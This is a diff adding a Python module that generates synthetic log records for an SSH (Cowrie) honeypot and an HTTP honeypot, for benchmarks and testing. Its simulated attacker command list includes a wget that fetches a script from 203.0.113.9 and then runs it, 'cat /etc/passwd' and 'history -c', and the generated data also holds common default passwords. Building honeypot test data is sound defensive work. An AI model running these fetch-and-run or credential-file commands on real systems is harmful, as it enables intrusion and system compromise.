@@ -0,0 +1,265 @@
+"""Seeded synthetic log generators for Cowrie JSONL and the HTTP honeypot.
+
+Records mirror what ``cowrie`` and ``VM_Files/HTTP/http_fake.py`` write, so the
+same files can drive the benchmarks, the load harness and manual testing.
+"""
+from __future__ import annotations
+
+import datetime
+import json
+import random
+import string
+from pathlib import Path
+from typing import Any, Dict, Iterator, List, Optional
+
+
+UTC = datetime.timezone.utc
+
+USERNAMES = ["root", "admin", "user", "test", "ubuntu", "oracle", "pi", "postgres", "git", "support", "guest", "ftp"]
+PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "1234", "toor", "changeme", "letmein", "P@ssw0rd", "raspberry"]
+COMMANDS = [
+	"uname -a", "cat /proc/cpuinfo", "whoami", "ls -la", "cd /tmp", "wget http://203.0.113.9/x.sh",
+	"chmod +x x.sh", "./x.sh", "free -m", "ps aux", "cat /etc/passwd", "history -c",
+]
+CLIENT_VERSIONS = ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.78"]
+HTTP_PATHS = ["/", "/console", "/console/admin", "/wp-login.php", "/.env", "/phpmyadmin/", "/admin", "/login", "/api/v1/users", "/cgi-bin/luci"]
+USER_AGENTS = [
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+	"curl/7.68.0",
+	"python-requests/2.31.0",
+	"Go-http-client/1.1",
+	"masscan/1.3",
+	"Mozilla/5.0 zgrab/0.x",
+]
+
+
+def _iso(ts: datetime.datetime, z_suffix: bool = True) -> str:
+	value = ts.astimezone(UTC).replace(tzinfo=None).isoformat(timespec="microseconds")
+	return value + "Z" if z_suffix else value
+
+
+class _AttackerPool:
+	"""Skewed attacker population: a few noisy IPs and a long tail."""
+
+	def __init__(self, rng: random.Random, size: int):
+		self.rng = rng
+		self.ips = [
+			f"{rng.choice([45, 61, 103, 185, 198, 203])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+			for _ in range(max(1, size))
+		]
+
+	def pick(self) -> str:
+		# paretovariate keeps most traffic on the first few addresses
+		idx = int(self.rng.paretovariate(1.2)) - 1
+		return self.ips[idx % len(self.ips)]
+
+
+def cowrie_records(
+	count: int,
+	seed: int = 1337,
+	start: Optional[datetime.datetime] = None,
+	attackers: int = 500,
+	mean_gap: float = 0.5,
+) -> Iterator[Dict[str, Any]]:
+	"""Yield ``count`` Cowrie JSON records grouped into realistic sessions."""
+	rng = random.Random(seed)
+	pool = _AttackerPool(rng, attackers)
+	ts = start or datetime.datetime(2025, 12, 16, tzinfo=UTC)
+	emitted = 0
+	while emitted < count:
+		session = "".join(rng.choices("0123456789abcdef", k=12))
+		ip = pool.pick()
+		src_port = rng.randint(1024, 65535)
+		lifecycle: List[Dict[str, Any]] = [
+			{
+				"eventid": "cowrie.session.connect",
+				"src_ip": ip,
+				"src_port": src_port,
+				"dst_ip": "10.0.96.70",
+				"dst_port": 22,
+				"protocol": "ssh",
+				"message": f"New connection: {ip}:{src_port} (10.0.96.70:22) [session: {session}]",
+			},
+			{
+				"eventid": "cowrie.client.version",
+				"version": rng.choice(CLIENT_VERSIONS),
+				"message": "Remote SSH version",
+			},
+		]
+		success = False
+		for _ in range(rng.randint(1, 6)):
+			username = rng.choice(USERNAMES)
+			password = rng.choice(PASSWORDS)
+			success = rng.random() < 0.1
+			outcome = "succeeded" if success else "failed"
+			lifecycle.append(
+				{
+					"eventid": "cowrie.login.success" if success else "cowrie.login.failed",
+					"username": username,
+					"password": password,
+					"message": f"login attempt [{username}/{password}] {outcome}",
+				}
+			)
+			if success:
+				break
+		if success:
+			for _ in range(rng.randint(1, 8)):
+				command = rng.choice(COMMANDS)
+				lifecycle.append({"eventid": "cowrie.command.input", "input": command, "message": f"CMD: {command}"})
+			if rng.random() < 0.2:
+				shasum = "".join(rng.choices("0123456789abcdef", k=64))
+				lifecycle.append(
+					{
+						"eventid": "cowrie.session.file_download",
+						"url": "http://203.0.113.9/x.sh",
+						"outfile": f"var/lib/cowrie/downloads/{shasum}",
+						"shasum": shasum,
+						"message": "Downloaded URL",
+					}
+				)
+			lifecycle.append({"eventid": "cowrie.log.closed", "ttylog": f"var/lib/cowrie/tty/{session}", "size": rng.randint(200, 20000)})
+		duration = 0.0
+		for record in lifecycle:
+			gap = rng.expovariate(1.0 / mean_gap)
+			ts += datetime.timedelta(seconds=gap)
+			duration += gap
+			record.update({"timestamp": _iso(ts), "src_ip": ip, "session": session, "sensor": "hive-vm"})
+			yield record
+			emitted += 1
+			if emitted >= count:
+				return
+		ts += datetime.timedelta(seconds=rng.expovariate(1.0 / mean_gap))
+		yield {
+			"eventid": "cowrie.session.closed",
+			"duration": round(duration, 3),
+			"message": f"Connection lost after {duration:.1f} seconds",
+			"timestamp": _iso(ts),
+			"src_ip": ip,
+			"session": session,
+			"sensor": "hive-vm",
+		}
+		emitted += 1
+
+
+def http_records(
+	count: int,
+	seed: int = 7331,
+	start: Optional[datetime.datetime] = None,
+	attackers: int = 500,
+	mean_gap: float = 0.5,
+) -> Iterator[Dict[str, Any]]:
+	"""Yield ``count`` records shaped like ``http_fake.log_request``/``log_login``."""
+	rng = random.Random(seed)
+	pool = _AttackerPool(rng, attackers)
+	ts = start or datetime.datetime(2025, 12, 16, tzinfo=UTC)
+	emitted = 0
+	while emitted < count:
+		ts += datetime.timedelta(seconds=rng.expovariate(1.0 / mean_gap))
+		ip = pool.pick()
+		ua = rng.choice(USER_AGENTS)
+		is_login = rng.random() < 0.15
+		method = "POST" if is_login else rng.choice(["GET", "GET", "GET", "HEAD", "POST"])
+		path = "/" if is_login else rng.choice(HTTP_PATHS)
+		query = "" if rng.random() < 0.7 else "id=" + "".join(rng.choices(string.ascii_lowercase + string.digits, k=8))
+		username = rng.choice(USERNAMES)
+		password = rng.choice(PASSWORDS)
+		body = f"username={username}&password={password}" if is_login else ""
+		yield {
+			"event": "http_request",
+			"time": _iso(ts),
+			"remote_addr": ip,
+			"method": method,
+			"path": path,
+			"query_string": query,
+			"headers": {
+				"Host": "10.0.96.71:8080",
+				"User-Agent": ua,
+				"Accept": "*/*",
+				"Content-Type": "application/x-www-form-urlencoded" if is_login else "text/plain",
+			},
+			"body": body,
+		}
+		emitted += 1
+		if is_login and emitted < count:
+			yield {
+				"event": "fake_login",
+				"time": _iso(ts),
+				"remote_addr": ip,
+				"username": username,
+				"password": password,
+				"user_agent": ua,
+				"path": path,
+			}
+			emitted += 1
+
+
+def write_jsonl(path: Path, records: Iterator[Dict[str, Any]], append: bool = False) -> int:
+	"""Write records as JSONL and return the number of lines written."""
+	path.parent.mkdir(parents=True, exist_ok=True)
+	written = 0
+	with path.open("a" if append else "w", encoding="utf-8") as handle:
+		for record in records:
+			handle.write(json.dumps(record) + "\n")
+			written += 1
+	return written
+
+
+def write_ttylog(path: Path, started: float, commands: List[str]) -> None:
+	"""Write a Cowrie-format ttylog: a prompt, each command echoed and its output."""
+	from services.ttylog import OP_CLOSE, OP_OPEN, OP_WRITE, RECORD, TYPE_INPUT, TYPE_OUTPUT
+
+	def record(op: int, at: float, direction: int = 0, data: bytes = b"") -> bytes:
+		sec = int(at)
+		return RECORD.pack(op, 0, len(data), direction, sec, int((at - sec) * 1e6)) + data
+
+	at = started
+	chunks = [record(OP_OPEN, at), record(OP_WRITE, at, TYPE_OUTPUT, b"root@svr04:~# ")]
+	for command in commands:
+		at += 0.4
+		chunks.append(record(OP_WRITE, at, TYPE_INPUT, command.encode() + b"\r"))
+		chunks.append(record(OP_WRITE, at, TYPE_OUTPUT, command.encode() + b"\r\n"))
+		at += 0.1
+		chunks.append(record(OP_WRITE, at, TYPE_OUTPUT, f"-bash: {command.split()[0]}: command not found\r\n".encode()))
+		chunks.append(record(OP_WRITE, at, TYPE_OUTPUT, b"root@svr04:~# "))
+	chunks.append(record(OP_CLOSE, at + 0.2))
+	path.write_bytes(b"".join(chunks))
+
+
+def write_tty_stubs(cowrie_log: Path, tty_dir: Path) -> int:
+	"""Write a ttylog for every session that logged a ``cowrie.log.closed``."""
+	tty_dir.mkdir(parents=True, exist_ok=True)
+	created = 0
+	started: Dict[str, float] = {}
+	commands: Dict[str, List[str]] = {}
+	with cowrie_log.open("r", encoding="utf-8") as handle:
+		for line in handle:
+			if '"cowrie.session.connect"' in line or '"cowrie.command.input"' in line or '"cowrie.log.closed"' in line:
+				record = json.loads(line)
+			else:
+				continue
+			session = record.get("session")
+			if not session:
+				continue
+			if record["eventid"] == "cowrie.session.connect":
+				started[session] = datetime.datetime.fromisoformat(record["timestamp"].replace("Z", "+00:00")).timestamp()
+			elif record["eventid"] == "cowrie.command.input":
+				commands.setdefault(session, []).append(record["input"])
+			else:
+				write_ttylog(tty_dir / session, started.get(session, 0.0), commands.pop(session, []))
+				created += 1
+	return created
+
+
+if __name__ == "__main__":
+	import argparse
+
+	parser = argparse.ArgumentParser(description="Generate synthetic honeypot logs")
+	parser.add_argument("--out-dir", default="bench/data", help="Directory for generated logs")
+	parser.add_argument("--lines", type=int, default=10000, help="Lines per log file")
+	parser.add_argument("--seed", type=int, default=1337)
+	args = parser.parse_args()
+
+	out = Path(args.out_dir)
+	n_ssh = write_jsonl(out / "cowrie.json", cowrie_records(args.lines, seed=args.seed))
+	n_http = write_jsonl(out / "http-honeypot.log", http_records(args.lines, seed=args.seed + 1))
+	print(json.dumps({"cowrie_lines": n_ssh, "http_lines": n_http, "out_dir": str(out)}))